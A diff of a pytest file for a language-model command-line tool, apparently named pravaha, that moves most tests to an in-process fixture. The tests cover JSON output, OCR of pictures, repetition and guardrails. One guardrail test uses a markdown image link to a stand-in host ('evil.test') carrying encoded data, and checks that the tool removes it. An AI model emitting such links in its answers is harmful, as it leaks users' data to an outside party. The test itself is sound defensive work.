@@ -1,4 +1,7 @@
-"""The command as a user meets it: output, sentences, exit statuses. Each a process of its own."""
+"""The command as a user meets it: output, sentences, exit statuses.
+
+A test has a process of its own where that matters: pipes, signals, what is imported, and a whole answer.
+"""
 
 import json
 import logging
@@ -7,12 +10,14 @@ import re
 import signal
 import subprocess
 import sys
+from types import SimpleNamespace
 
 import pytest
 from typer.testing import CliRunner
 
 from app.cli import cli
 from tests.fakes.pictures import whole_png
+from tests.fakes.toy_cli import ToyReader, open_toy
 
 
 @pytest.fixture
@@ -38,6 +43,21 @@ def pravaha(environ, tmp_path):
             env=environ | {"TOY": toy or ""} | more,
         )
 
+    return run
+
+
+@pytest.fixture
+def pravaha_here(environ, monkeypatch):
+    """Runs the command on a toy engine in this process, which takes a tenth of the time."""
+
+    def run(*arguments, toy, **more):
+        monkeypatch.setattr(os, "environ", environ | {"TOY": toy} | more)
+        done = CliRunner().invoke(cli, arguments)
+        return SimpleNamespace(returncode=done.exit_code, stdout=done.stdout, stderr=done.stderr)
+
+    monkeypatch.setattr(logging.getLogger(), "handlers", [])
+    monkeypatch.setattr("app.runtime.opening.open_client", open_toy)
+    monkeypatch.setattr("engine.retrieval.parsing.picture_reader.PictureReader", ToyReader)
     return run
 
 
@@ -136,8 +156,8 @@ def test_run_reads_standard_input(pravaha):
     assert done.stdout == "user\ntwo\nlines\nassistant\n\n"
 
 
-def test_run_json_has_tokens_logprobs_timings_and_seed(pravaha):
-    done = pravaha("run", "--json", "--seed", "5", "hello", toy="paris")
+def test_run_json_has_tokens_logprobs_timings_and_seed(pravaha_here):
+    done = pravaha_here("run", "--json", "--seed", "5", "hello", toy="paris")
     report = json.loads(done.stdout)
     assert report["text"] == "It is Paris."
     assert len(report["token_ids"]) == len(report["logprobs"]) == 13
@@ -150,74 +170,74 @@ def test_run_json_has_tokens_logprobs_timings_and_seed(pravaha):
     assert report["timings"]["load"] >= 0
 
 
-def test_run_reads_the_text_of_a_picture(pravaha, tmp_path):
+def test_run_reads_the_text_of_a_picture(pravaha_here, tmp_path):
     picture = tmp_path / "sign.png"
     picture.write_bytes(whole_png(30, 20))
     arguments = ("run", "--system", "", "What?", "--image", str(picture))
-    done = pravaha(*arguments, toy="echo", TOY_OCR="Closed on Sundays")
+    done = pravaha_here(*arguments, toy="echo", TOY_OCR="Closed on Sundays")
     assert 'Text in the picture "sign.png", read by OCR' in done.stdout
     assert "\n> Closed on Sundays\n" in done.stdout
     assert done.stderr == (
         "pravaha: sign.png: its text was read by OCR; the model does not see the picture.\n"
     )
-    done = pravaha(*arguments, "--json", toy="paris", TOY_OCR="Closed on Sundays")
+    done = pravaha_here(*arguments, "--json", toy="paris", TOY_OCR="Closed on Sundays")
     assert json.loads(done.stdout)["images"] == [
         {"name": "sign.png", "read_by": "ocr", "text": "Closed on Sundays"}
     ]
 
 
-def test_run_gives_pictures_to_a_model_that_sees(pravaha, tmp_path):
+def test_run_gives_pictures_to_a_model_that_sees(pravaha_here, tmp_path):
     for name, width in (("a.png", 30), ("b.png", 40)):
         (tmp_path / name).write_bytes(whole_png(width, 20))
     pictures = [f"--image={tmp_path / name}" for name in ("a.png", "b.png")]
-    done = pravaha("run", "What?", *pictures, toy="seeing")
+    done = pravaha_here("run", "What?", *pictures, toy="seeing")
     assert done.stdout == "I see 30×20, 40×20.\n"
     assert done.stderr == (
         "pravaha: a.png: the model sees the picture.\npravaha: b.png: the model sees the picture.\n"
     )
-    done = pravaha("run", "What?", "--json", *pictures, toy="seeing")
+    done = pravaha_here("run", "What?", "--json", *pictures, toy="seeing")
     assert [one["read_by"] for one in json.loads(done.stdout)["images"]] == ["model", "model"]
 
 
-def test_run_says_what_to_do_with_a_picture_that_nothing_can_read(pravaha, tmp_path):
+def test_run_says_what_to_do_with_a_picture_that_nothing_can_read(pravaha_here, tmp_path):
     picture = tmp_path / "sign.png"
     picture.write_bytes(whole_png(30, 20))
-    done = pravaha("run", "What?", "--image", str(picture), toy="paris")
+    done = pravaha_here("run", "What?", "--image", str(picture), toy="paris")
     assert (done.returncode, done.stdout) == (1, "")
     assert done.stderr.startswith("pravaha: toy does not see pictures: load a model that does, or")
     (tmp_path / "a.txt").write_text("text")
     for name, why in (("a.txt", "is no PNG"), ("none.png", "No such file")):
-        done = pravaha("run", "What?", "--image", str(tmp_path / name), toy="paris")
+        done = pravaha_here("run", "What?", "--image", str(tmp_path / name), toy="paris")
         assert done.returncode == 1
         assert why in done.stderr
-    done = pravaha("run", "--raw", "What?", "--image", str(picture), toy="paris")
+    done = pravaha_here("run", "--raw", "What?", "--image", str(picture), toy="paris")
     assert done.returncode == 2
     assert "--image needs a question and the chat template" in done.stderr
 
 
-def test_run_raw_feeds_the_text_alone_after_the_first_token(pravaha):
-    done = pravaha("run", "--raw", "--json", "abc", toy="paris")
+def test_run_raw_feeds_the_text_alone_after_the_first_token(pravaha_here):
+    done = pravaha_here("run", "--raw", "--json", "abc", toy="paris")
     assert json.loads(done.stdout)["usage"]["prompt_tokens"] == 4
 
 
-def test_run_stops_an_answer_that_repeats_itself(pravaha):
-    done = pravaha("run", "hello", toy="looping")
+def test_run_stops_an_answer_that_repeats_itself(pravaha_here):
+    done = pravaha_here("run", "hello", toy="looping")
     assert done.returncode == 0
     assert done.stdout.startswith("word 0 word 0 ")
     assert "the answer repeats itself; --no-stop-repetition lets it go on" in done.stderr
-    report = json.loads(pravaha("run", "--json", "hello", toy="looping").stdout)
+    report = json.loads(pravaha_here("run", "--json", "hello", toy="looping").stdout)
     assert report["finish_reason"] == "repetition"
     assert len(report["token_ids"]) < 300
 
 
-def test_run_tells_of_an_answer_that_failed(pravaha):
-    done = pravaha("run", "hello", toy="failing")
+def test_run_tells_of_an_answer_that_failed(pravaha_here):
+    done = pravaha_here("run", "hello", toy="failing")
     assert (done.returncode, done.stdout) == (1, "It is\n")
     assert done.stderr == "pravaha: the step failed\n"
 
 
-def test_run_tells_of_a_model_that_cannot_be_loaded(pravaha):
-    done = pravaha("run", "hello", toy="broken")
+def test_run_tells_of_a_model_that_cannot_be_loaded(pravaha_here):
+    done = pravaha_here("run", "hello", toy="broken")
     assert (done.returncode, done.stdout) == (1, "")
     assert done.stderr == "pravaha: The file is cut short.\n"
 
@@ -267,8 +287,8 @@ def test_ctrl_c_in_a_plain_pipe_keeps_the_partial_answer(environ, pravaha):
     assert shown.endswith("(stopped)\n")
 
 
-def test_settings_come_from_the_environment_too(pravaha):
-    done = pravaha("run", "hello", toy="paris", PRAVAHA_TOP_K="x")
+def test_settings_come_from_the_environment_too(pravaha_here):
+    done = pravaha_here("run", "hello", toy="paris", PRAVAHA_TOP_K="x")
     assert done.returncode == 1
     assert done.stderr.startswith("pravaha: PRAVAHA_TOP_K is 'x' but should be")
 
@@ -286,28 +306,28 @@ def test_doctor_reports_to_people_and_programs(pravaha):
     assert done.returncode == (1 if "problem" in levels else 0)
 
 
-def test_run_checks_the_question_and_the_answer(pravaha):
+def test_run_checks_the_question_and_the_answer(pravaha_here):
     leak = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"
-    answer = pravaha("run", "--raw", "--json", leak, toy="echo")
+    answer = pravaha_here("run", "--raw", "--json", leak, toy="echo")
     fields = json.loads(answer.stdout)
     assert fields["text"].endswith("![x]([exfiltration removed])")
     assert "1 address that sends data removed" in answer.stderr
     raw = json.loads(
-        pravaha("run", "--raw", "--json", "--guardrails-mode", "off", leak, toy="echo").stdout
+        pravaha_here("run", "--raw", "--json", "--guardrails-mode", "off", leak, toy="echo").stdout
     )
     assert leak in raw["text"]
     assert raw["token_ids"] == fields["token_ids"]
-    charged = pravaha(
+    charged = pravaha_here(
         "run", "--guardrails-mode", "redact", "Charge 4111 1111 1111 1111.", toy="echo"
     )
     assert "Charge 4111 1111 1111 1111." in charged.stdout  # the placeholder that the model repeats
 
 
-def test_run_refuses_and_ends_at_a_blocked_phrase(pravaha, environ):
+def test_run_refuses_and_ends_at_a_blocked_phrase(pravaha_here, environ):
     environ["PRAVAHA_GUARDRAILS_BLOCKLIST"] = '["is Paris"]'
-    refused = pravaha("run", "Why is Paris big?", toy="paris")
+    refused = pravaha_here("run", "Why is Paris big?", toy="paris")
     assert refused.returncode == 1
     assert "not sent: it contains a blocked phrase" in refused.stderr
-    ended = pravaha("run", "--json", "Capital of France?", toy="paris")
+    ended = pravaha_here("run", "--json", "Capital of France?", toy="paris")
     assert (ended.returncode, "ended by the guardrails" in ended.stderr) == (1, True)
     assert json.loads(ended.stdout)["finish_reason"] == "content_filter"
